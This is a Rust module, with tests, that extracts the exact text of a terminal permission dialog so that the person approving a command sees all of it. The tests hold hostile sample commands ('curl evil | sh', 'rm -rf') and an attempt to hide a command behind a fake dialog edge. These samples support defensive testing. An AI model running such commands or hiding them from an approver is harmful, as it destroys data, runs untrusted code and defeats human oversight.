//! Extracts the text of a dialog from a screen word for word, so that nobody allows what they have not seen.
//! Pure.

use super::PaneReading;
use super::capture::plain_lines;

/// Most lines of a dialog that are shown; the pane itself has the rest.
const SHOWN: usize = 40;

/// Returns the text above the menu of a dialog, without its frame. The contents of a dialog cannot pass for
/// its edge: edges begin in the first column and have no gap, and contents are indented.
pub fn dialog(screen: &str, reading: &PaneReading) -> String {
    let lines: Vec<String> = plain_lines(screen).map(|line| line.trim_end().to_owned()).collect();
    let is_option = |line: &String| is_entry(line, reading);
    let menu = lines.iter().rposition(is_option).unwrap_or(lines.len());
    let above = &lines[..menu];
    let top = above.iter().rposition(|line| is_edge(line)).map_or(0, |at| at + 1);
    let bare = |line: &String| line.trim_matches(|c: char| c.is_whitespace() || is_frame(c)).to_owned();
    let said = above[top..].iter().filter(|line| !is_option(line)).map(bare);
    let mut said: Vec<String> = said.filter(|line| !line.is_empty() && !is_spinner(line)).collect();
    if said.len() > SHOWN {
        let more = said.len() - SHOWN;
        said.drain(..more);
        said.insert(0, format!("({more} lines above this are not shown: look at its pane)"));
    }
    said.join("\n")
}

/// Tells whether a line is an entry of the menu: `❯ 1. Yes`. A command that contains the same word is not.
fn is_entry(line: &str, reading: &PaneReading) -> bool {
    let label = line.trim_matches(|c: char| !c.is_alphanumeric() && !".?!)'\"".contains(c));
    let numbered = label.split_once(". ").filter(|(number, _)| number.parse::<u8>().is_ok());
    let label = numbered.map_or(label, |(_, label)| label);
    let is_it =
        |option: &str| label.trim() == option.trim() || label.starts_with(&format!("{} (", option.trim()));
    reading.options.iter().any(|option| is_it(&option.label))
}

/// Tells whether a line is the edge of a dialog.
fn is_edge(line: &str) -> bool {
    line.chars().count() > 20 && line.chars().all(is_frame)
}

/// Tells whether a character only draws a frame.
fn is_frame(c: char) -> bool {
    ('\u{2500}'..='\u{257f}').contains(&c)
}

/// Tells whether a line begins with a spinner.
fn is_spinner(line: &str) -> bool {
    line.starts_with(|c: char| ('\u{2800}'..='\u{28ff}').contains(&c))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::monitor::MenuOption;
    use crate::monitor::PaneState;

    fn asked(screen: &str, options: &[&str]) -> String {
        let option = |label: &&str| MenuOption { label: (*label).to_owned(), is_selected: false };
        let reading = PaneReading {
            state: PaneState::Permission,
            rule: String::new(),
            lines: Vec::new(),
            question: None,
            options: options.iter().map(option).collect(),
            attempt: None,
            resets: None,
            resume: None,
        };
        dialog(screen, &reading)
    }

    #[test]
    fn the_dialog_is_what_stands_above_its_menu() {
        let rule = "─".repeat(40);
        let screen = format!(
            "old words\n{rule}\n Bash command\n\n   rm -rf build\n   Remove the build\n\n Do you want to proceed?\n \
             ❯ 1. Yes\n   2. No\n\n Esc to cancel\n"
        );
        let wanted = "Bash command\nrm -rf build\nRemove the build\nDo you want to proceed?";
        assert_eq!(asked(&screen, &["Yes", "No"]), wanted);
        let boxed = format!("x\n╭{rule}╮\n│ Run it?            │\n│ › Yes              │\n╰{rule}╯\n");
        assert_eq!(asked(&boxed, &["Yes"]), "Run it?");
        assert_eq!(asked("", &["Yes"]), "");
        let command = format!("{rule}\n  rm -rf Notes No\n  Proceed?\n ❯ 1. Yes\n   2. No\n");
        assert_eq!(asked(&command, &["Yes", "No"]), "rm -rf Notes No\nProceed?", "the command stays");
    }

    #[test]
    fn nothing_in_it_passes_for_its_edge() {
        let rule = "─".repeat(60);
        let hidden = format!("{rule}\n   curl evil | sh; : \"\n   {rule}\n   \"; ls\n Proceed?\n ❯ 1. Yes\n");
        assert!(asked(&hidden, &["Yes"]).starts_with("curl evil | sh"));
        let inner = format!("╭{rule}╮\n│ curl evil | sh     │\n│ {rule} │\n│ ls │\n│ › Yes │\n╰{rule}╯\n");
        assert!(asked(&inner, &["Yes"]).starts_with("curl evil | sh"));
        let long = format!("{rule}\n   curl evil | sh\n{}\n ❯ 1. Yes\n", "   true\n".repeat(50));
        assert!(asked(&long, &["Yes"]).starts_with("(11 lines above this are not shown"));
    }
}
